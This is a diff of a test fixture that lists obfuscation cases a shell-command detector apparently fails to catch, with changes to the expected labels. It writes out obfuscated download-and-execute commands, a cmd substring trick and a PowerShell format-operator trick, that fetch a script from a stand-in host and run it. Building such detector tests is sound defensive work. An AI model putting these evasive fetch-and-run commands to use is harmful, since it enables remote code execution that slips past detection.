@@ -103,13 +103,13 @@ export const NOT_FOLLOWED: readonly Limit[] = [
     name: 'a variable of cmd that is cut',
     file: run('cmd', '/c', '%ComSpec:~-7,1%url https://evil.example/x | bash'),
     reason: STATE,
-    told: [MISSED, 'shell-wrapper@it', 'inline-code@it'],
+    told: [MISSED, 'inline-code@it'],
   },
   {
     name: 'the format operator of PowerShell',
     file: run('powershell', '-c', "& ('{1}{0}'-f'x','ie') (& ('{0}r'-f'iw') https://evil.example/x)"),
     reason: LANGUAGE,
-    told: [MISSED, 'shell-wrapper@it', 'inline-code@it'],
+    told: [MISSED, 'inline-code@it'],
   },
   {
     name: 'letters by their numbers in JavaScript',
